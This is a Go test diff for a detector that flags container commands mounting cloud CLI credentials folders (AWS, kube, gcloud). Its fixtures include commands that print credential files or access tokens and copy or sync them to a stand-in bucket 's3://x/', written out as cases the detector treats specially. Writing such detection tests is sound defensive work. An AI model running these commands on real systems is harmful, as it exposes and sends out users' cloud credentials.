@@ -133,3 +133,33 @@ func TestKeyDeploy(t *testing.T) {
 		})
 	}
 }
+
+// det62: a cloud CLI's whole credentials folder mounted into a run that names nothing that
+// prints, copies or sends it gives the mount word; anything else gives none
+func TestCredentialMounts(t *testing.T) {
+	want := map[string]string{ // command: the mount word, or "" for none
+		"docker run --rm -it -v ~/.aws:/root/.aws amazon/aws-cli s3 ls":                                                    "~/.aws:/root/.aws",
+		"docker run --rm -v $HOME/.kube:/root/.kube:ro bitnami/kubectl get pods":                                           "$HOME/.kube:/root/.kube:ro",
+		"podman run -v ~/.config/gcloud/:/root/.config/gcloud gcr.io/google.com/cloudsdktool/cloud-sdk gcloud config list": "~/.config/gcloud/:/root/.config/gcloud",
+		"docker run --rm -v ~/.aws/credentials:/c amazon/aws-cli s3 ls":                                                    "",
+		"docker run --rm -v ~/.ssh:/root/.ssh alpine ls":                                                                   "",
+		"docker run --rm -v ~/.aws:/a alpine cat /a/credentials":                                                           "",
+		"docker run --rm -v ~/.aws:/a alpine sh -c 'ls /a'":                                                                "",
+		"docker run --rm -v ~/.aws:/a --entrypoint /bin/cat amazon/aws-cli /a/credentials":                                 "",
+		"docker run --rm -v ~/.aws:/a amazon/aws-cli s3 cp /a/credentials s3://x/":                                         "",
+		"docker run --rm -v ~/.aws/../.ssh:/a amazon/aws-cli s3 ls":                                                        "",
+		"docker run --rm -v ~/.awsx:/a amazon/aws-cli s3 ls":                                                               "",
+		"docker exec -v ~/.aws:/a c ls":                                                                                    "",
+		"docker run --rm -v ~/.aws:/root/.aws amazon/aws-cli s3 sync /root/.aws s3://x/":                                   "",
+		"docker run --rm -v ~/.aws:/root/.aws:ro amazon/aws-cli s3 sync /root/.aws/ s3://x/":                               "",
+		"docker run --rm -v ~/.aws:/root/.aws amazon/aws-cli configure export-credentials":                                 "",
+		"docker run --rm -v ~/.kube:/root/.kube bitnami/kubectl config view --raw":                                         "",
+		"docker run --rm -v ~/.config/gcloud:/root/.config/gcloud cloud-sdk gcloud auth print-access-token":                "",
+	}
+	for cmd, w := range want {
+		got := CredentialMounts(strings.Fields(cmd))
+		if w == "" && len(got) > 0 || w != "" && (len(got) != 1 || got[0] != w) {
+			t.Errorf("CredentialMounts(%q) = %q, want %q", cmd, got, w)
+		}
+	}
+}
